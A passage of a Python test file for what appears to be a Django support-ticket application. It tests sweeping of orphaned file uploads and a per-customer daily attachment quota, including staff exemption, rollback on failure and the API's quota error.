            [upload("orphan.txt", b"gone\n"), upload("kept.png", png_bytes())], bucket=SWEPT
        )
    ]
    _referenced(referenced)

    # Just stored: both are fresh, so nothing goes whatever references them.
    assert sweep_orphaned_files(buckets=[SWEPT]) == {SWEPT: 0}
    assert storage.exists(orphan) and storage.exists(referenced)

    later = timezone.now() + timedelta(hours=25)
    assert sweep_orphaned_files(later, buckets=[SWEPT]) == {SWEPT: 1}
    assert not storage.exists(orphan)
    assert storage.exists(referenced)
    cache.delete(f"core:orphan-sweep:{SWEPT}")


# --- the per-customer daily quota (issue 10) -----------------------------------------------------


@pytest.fixture
def quota(settings):
    settings.ATTACHMENT_DAILY_QUOTA_BYTES = 100
    return 100


def _files_in(path) -> list:
    return [p for p in path.rglob("*") if p.is_file()]


def test_uploads_over_the_daily_quota_are_refused_before_storage(
    local_bucket, quota, customer, tmp_path
):
    from core.attachments import uploaded_today

    [first] = store_uploads([upload("a.txt", b"x" * 60 + b"\n")], bucket=SWEPT, uploader=customer)
    assert uploaded_today(customer) == 61
    with pytest.raises(AttachmentRejected) as refused:
        store_uploads([upload("b.txt", b"y" * 60 + b"\n")], bucket=SWEPT, uploader=customer)
    assert refused.value.code == "quota_exceeded"
    assert "a day" in refused.value.messages[0] and "left today" in refused.value.messages[0]
    assert _files_in(tmp_path) == [tmp_path / first.name]  # nothing of the refused upload
    assert uploaded_today(customer) == 61  # the refused bytes are not counted


def test_the_quota_is_per_customer_and_staff_are_exempt(local_bucket, quota, customer, agent):
    from tests.factories import UserFactory

    other = UserFactory(roles=["customer"])
    store_uploads([upload("a.txt", b"x" * 90 + b"\n")], bucket=SWEPT, uploader=customer)
    store_uploads([upload("a.txt", b"x" * 90 + b"\n")], bucket=SWEPT, uploader=other)
    store_uploads([upload("a.txt", b"x" * 500 + b"\n")], bucket=SWEPT, uploader=agent)


def test_the_quota_comes_back_when_storing_or_the_rows_fail(
    local_bucket, quota, customer, monkeypatch
):
    from core.attachments import uploaded_today

    with (
        pytest.raises(RuntimeError),
        stored_uploads([upload("a.txt", b"x" * 90 + b"\n")], bucket=SWEPT, uploader=customer),
    ):
        raise RuntimeError("the rows failed")
    assert uploaded_today(customer) == 0
    store_uploads([upload("a.txt", b"x" * 90 + b"\n")], bucket=SWEPT, uploader=customer)
    assert uploaded_today(customer) == 91


def test_a_customer_over_the_quota_gets_a_clear_api_error_and_no_message(
    local_bucket, quota, api_client, customer, tmp_path
):
    from support.models import TicketMessage
    from tests.support.factories import make_ticket

    ticket = make_ticket(by=customer, subject="Quota")
    messages_before = TicketMessage.objects.count()
    api_client.force_authenticate(customer)
    response = api_client.post(
        f"/api/v1/support/tickets/{ticket.pk}/messages/",
        {"body": "files", "files": [upload("a.txt", b"x" * 150 + b"\n")]},
        format="multipart",
    )
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "quota_exceeded", body
    assert "a day" in str(body)
    assert TicketMessage.objects.count() == messages_before
    assert _files_in(tmp_path) == []
